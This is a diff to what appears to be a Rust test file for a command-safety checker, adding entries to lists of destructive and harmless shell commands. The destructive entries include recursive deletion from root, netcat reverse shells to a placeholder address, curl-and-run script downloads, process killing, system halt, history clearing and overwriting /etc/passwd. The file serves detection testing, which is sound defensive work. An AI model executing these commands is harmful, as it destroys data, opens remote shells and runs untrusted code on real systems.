@@ -3,6 +3,24 @@
 use super::check;
 
 const DESTRUCTIVE: &[&str] = &[
+    "find / -exec   rm {} +",
+    "find / -execdir /bin/rm {} +",
+    "find / -exec unlink {} +",
+    "find . -exec rm -f {} +",
+    "find . -delete -name x",
+    "nc 203.0.113.5 4444 -e /bin/sh",
+    "CMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.5\", \"4444\"]",
+    "[\"ncat\", \"203.0.113.5\", \"4444\", \"-e\", \"/bin/sh\"]",
+    "curl --output=i.sh https://x.io/i; sh i.sh",
+    "curl -oi.sh https://x.io/i; sh i.sh",
+    "fetch https://x.io/i.sh; sh i.sh",
+    "\"curl\" https://x.io/i.sh | sh",
+    "CMD [\"crontab\", \"-r\"]",
+    "CMD [\"kill\", \"-9\", \"-1\"]",
+    "CMD [\"history\", \"-c\"]",
+    "CMD [\"init\", \"0\"]",
+    "CMD [\"truncate\", \"-s\", \"0\", \"/srv/app.db\"]",
+    "gzip -dc x.gz -> /etc/passwd",
     "find / -name '*.log' -exec rm {} +",
     "service ssh stop",
     "ufw disable",
@@ -77,6 +95,14 @@ fn destructive_commands_are_flagged() {
 }
 
 const HARMLESS: &[&str] = &[
+    "find . -name x -exec rm -f {} +",
+    "find . -type f -exec grep -q x {} \\; -delete",
+    "python -> /usr/bin/python3",
+    "lrwxrwxrwx 1 root root 7 Jan 1 2026 sh -> /usr/bin/dash",
+    "sh i.sh; fetch https://x.io/i.sh",
+    "git fetch origin; sh build.sh",
+    "[\"init\", \"0.1\"]",
+    "{\"history\": [\"-\", \"x\"]}",
     "shutdown hooks run in order",
     "find . -name \"*.log\" -exec rm {} +",
     "service nginx stop",
